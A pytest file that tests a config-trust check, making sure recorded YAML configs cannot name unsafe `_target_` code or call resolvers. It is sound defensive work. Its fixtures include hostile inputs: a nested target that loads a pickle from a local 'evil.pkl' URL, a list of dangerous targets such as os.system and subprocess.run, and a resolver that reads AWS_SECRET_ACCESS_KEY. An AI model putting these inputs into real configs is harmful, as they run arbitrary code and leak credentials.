"""A config that came from elsewhere is data: its `_target_`s must name allowed code and it may call no resolver.

The exploits of issue 16 (A, B) at the level of the check itself; reproduce and eval call it on every recorded config.
"""

from __future__ import annotations

import pytest
from omegaconf import OmegaConf

from normia.config.trust import (
    TRUSTED_TARGETS_ENV,
    check_no_resolvers,
    check_targets,
    load_untrusted_yaml,
    targets,
    trusted_prefixes,
)
from normia.errors import UserError

NESTED_PICKLE = """
model:
  _target_: normia.models.mlp.MLPClassifier
  dropout:
    _target_: pandas.read_pickle
    filepath_or_buffer: http://127.0.0.1:5000/artifacts/evil.pkl
data:
  _target_: normia.data.digits.DigitsDataModule
"""


@pytest.mark.parametrize(
    "target",
    [
        "pandas.read_pickle",
        "joblib.load",
        "numpy.load",
        "torch.load",
        "os.system",
        "builtins.eval",
        "subprocess.run",
    ],
)
def test_a_loader_or_command_at_any_depth_is_refused(target: str) -> None:
    cfg = OmegaConf.create(NESTED_PICKLE.replace("pandas.read_pickle", target))
    with pytest.raises(UserError, match=rf"model\.dropout\._target_='{target}' names code outside"):
        check_targets(cfg, "run abc config.yaml", trusted_prefixes())


def test_targets_are_found_in_lists_and_behind_interpolations_without_resolving() -> None:
    cfg = OmegaConf.create(
        {"callbacks": [{"_target_": "${oc.env:EVIL}"}], "x": {"y": [{"z": {"_target_": "a.b"}}]}}
    )
    found = dict(targets(cfg))
    assert found == {"callbacks[0]._target_": "${oc.env:EVIL}", "x.y[0].z._target_": "a.b"}
    with pytest.raises(UserError, match=r"callbacks\[0\]\._target_='\$\{oc.env:EVIL\}'"):
        check_targets(cfg, "recorded", trusted_prefixes())


def test_normia_and_listed_classes_pass_and_a_user_can_extend_the_list(monkeypatch) -> None:
    ok = OmegaConf.create(
        {
            "model": {"_target_": "normia.models.mlp.MLPClassifier"},
            "cb": {"_target_": "lightning.pytorch.callbacks.LearningRateMonitor"},
        }
    )
    check_targets(ok, "own", trusted_prefixes())
    mine = OmegaConf.create({"model": {"_target_": "my_study.models.Net"}})
    with pytest.raises(UserError, match=r"my_study\.models\.Net"):
        check_targets(mine, "own", trusted_prefixes())
    check_targets(mine, "own", trusted_prefixes(OmegaConf.create({"trusted_targets": ["my_study."]})))
    monkeypatch.setenv(TRUSTED_TARGETS_ENV, "other., my_study.models.Net")
    check_targets(mine, "own", trusted_prefixes())
    # a prefix is a package boundary: 'my_study.' does not allow 'my_study_evil.x'
    evil = OmegaConf.create({"m": {"_target_": "my_study_evil.x"}})
    with pytest.raises(UserError):
        check_targets(evil, "own", trusted_prefixes(OmegaConf.create({"trusted_targets": ["my_study."]})))


def test_a_recorded_config_cannot_trust_itself() -> None:
    """`trusted_targets` inside a recorded config is not read: only the caller's own config or environment."""
    text = NESTED_PICKLE + "trusted_targets: ['pandas.']\n"
    with pytest.raises(UserError, match=r"pandas\.read_pickle"):
        load_untrusted_yaml(text, "run abc config.yaml")


@pytest.mark.parametrize(
    "value",
    ["${oc.env:AWS_SECRET_ACCESS_KEY,none}", "prefix-${oc.env:HOME}", "${oc.decode:'1'}", "${my_resolver:x}"],
)
def test_resolvers_in_a_recorded_config_are_refused(value: str, monkeypatch) -> None:
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "canary-secret")
    cfg = OmegaConf.create(
        {"tags": {"note": value}, "model": {"_target_": "normia.models.mlp.MLPClassifier"}}
    )
    with pytest.raises(UserError, match=r"tags\.note calls the resolver") as err:
        check_no_resolvers(cfg, "run abc config.yaml")
    assert "canary-secret" not in str(err.value)


def test_plain_interpolations_between_keys_stay_allowed_and_trust_skips_the_checks(capsys) -> None:
    cfg = load_untrusted_yaml("a: 1\nb: ${a}\nl: ['${a}']\n", "recorded")
    assert cfg.b == 1 and cfg.l[0] == 1
    cfg = load_untrusted_yaml(NESTED_PICKLE, "recorded", trust=True)
    assert "--trust" in capsys.readouterr().err
